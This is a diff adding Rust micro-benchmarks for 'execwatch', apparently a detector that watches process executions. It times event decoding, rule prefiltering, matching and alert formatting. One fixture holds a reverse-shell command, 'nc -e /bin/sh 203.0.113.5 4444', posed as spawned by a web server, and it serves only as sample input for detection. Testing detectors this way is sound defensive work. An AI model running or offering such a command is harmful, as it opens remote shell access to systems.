@@ -1,0 +1,138 @@
+//! Micro-benchmarks of the pure stages: decode, prefilter, match, format.
+//!
+//! `cargo bench --bench stages`
+
+#![allow(missing_docs, reason = "a benchmark has no users of its items")]
+#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a benchmark that cannot be set up shall end")]
+
+use divan::{Bencher, black_box};
+use execwatch::alert::{Alert, Clock, Host, Record, ecs, text};
+use execwatch::connector::wire;
+use execwatch::diagnostics::Diagnostics;
+use execwatch::process::capture::Prefilter;
+use execwatch::process::details::Namespaces;
+use execwatch::process::exec::{Exec, Image};
+use execwatch::process::users::Users;
+use execwatch::rules::fields::Surroundings;
+use execwatch::rules::load::{Places, load};
+use execwatch::rules::ruleset::RuleSet;
+
+fn main() {
+    divan::main();
+}
+
+/// An exec event as a kernel of today sends it: 76 bytes.
+fn exec_event() -> Vec<u8> {
+    let mut bytes = Vec::new();
+    bytes.extend(76u32.to_ne_bytes());
+    bytes.extend(3u16.to_ne_bytes());
+    bytes.extend([0; 10]);
+    for word in [wire::INDEX, wire::VALUE, 1, 0] {
+        bytes.extend(word.to_ne_bytes());
+    }
+    bytes.extend(40u16.to_ne_bytes());
+    bytes.extend([0; 2]);
+    for word in [wire::what::EXEC, 1, 2, 3, 4242, 4242, 0, 0, 0, 0] {
+        bytes.extend(word.to_ne_bytes());
+    }
+    bytes
+}
+
+fn shipped_rules() -> RuleSet {
+    let places = Places { builtin: true, folders: Vec::new(), folders_required: false };
+    load(&places, &Diagnostics::default()).expect("the shipped rules load")
+}
+
+fn image(exe: &str, argv: &[&str]) -> Image {
+    Image::new(Some(exe.as_bytes()), Some(argv))
+}
+
+fn common() -> Image {
+    image("/usr/bin/sed", &["sed", "-n", "s/a/b/p", "/etc/hosts"])
+}
+
+fn netcat() -> Exec {
+    let mut exec = Exec { pid: 4242, ..Exec::default() };
+    exec.image = image("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]);
+    exec.details.uids = Some([33; 4]);
+    exec.details.gids = Some([33; 4]);
+    exec.details.ppid = Some(4000);
+    exec.details.session = Some(4000);
+    exec.details.tty = Some(0);
+    exec.details.start_ticks = Some(100_000);
+    exec.details.set_cwd(b"/var/www/html");
+    exec.details.set_cgroup(b"0::/system.slice/apache2.service\n");
+    exec.details.parent = image("/usr/bin/dash", &["sh", "-c", "nc -e /bin/sh 203.0.113.5 4444"]);
+    exec
+}
+
+struct Stopped;
+
+impl Clock for Stopped {
+    fn wall_from_monotonic(&self, stamp_ns: u64) -> u64 {
+        stamp_ns
+    }
+
+    fn wall_from_start_ticks(&self, ticks: u64) -> u64 {
+        ticks
+    }
+}
+
+fn surroundings() -> Surroundings {
+    Surroundings { users: Users::default(), namespaces: Namespaces::default() }
+}
+
+fn record() -> Record {
+    let alert = Alert::new(&netcat(), &shipped_rules(), &surroundings(), &Stopped).expect("a rule matches");
+    Record::Alert(Box::new(alert))
+}
+
+#[divan::bench]
+fn decode(bencher: Bencher) {
+    let event = exec_event();
+    bencher.bench(|| wire::messages(black_box(&event)).next().unwrap().unwrap());
+}
+
+#[divan::bench]
+fn prefilter_of_a_common_program(bencher: Bencher) {
+    let (rules, image) = (shipped_rules(), common());
+    assert!(!rules.could_match(&image));
+    bencher.bench(|| rules.could_match(black_box(&image)));
+}
+
+#[divan::bench]
+fn prefilter_of_a_shell_command(bencher: Bencher) {
+    let (rules, image) =
+        (shipped_rules(), image("/usr/bin/dash", &["sh", "-c", "run-parts /etc/cron.hourly"]));
+    bencher.bench(|| rules.could_match(black_box(&image)));
+}
+
+#[divan::bench]
+fn prefilter_of_a_utility(bencher: Bencher) {
+    let (rules, exec) = (shipped_rules(), netcat());
+    assert!(rules.could_match(&exec.image));
+    bencher.bench(|| rules.could_match(black_box(&exec.image)));
+}
+
+#[divan::bench]
+fn match_of_a_utility(bencher: Bencher) {
+    let (rules, exec, surroundings) = (shipped_rules(), netcat(), surroundings());
+    bencher.bench(|| Alert::new(black_box(&exec), &rules, &surroundings, &Stopped));
+}
+
+#[divan::bench]
+fn format_as_text(bencher: Bencher) {
+    let record = record();
+    bencher.bench(|| text::line(black_box(&record)));
+}
+
+#[divan::bench]
+fn format_as_json(bencher: Bencher) {
+    let (record, host) = (record(), Host { name: "host".into(), ..Host::default() });
+    bencher.bench(|| ecs::line(black_box(&record), &host));
+}
+
+#[divan::bench]
+fn load_the_shipped_rules() -> RuleSet {
+    shipped_rules()
+}
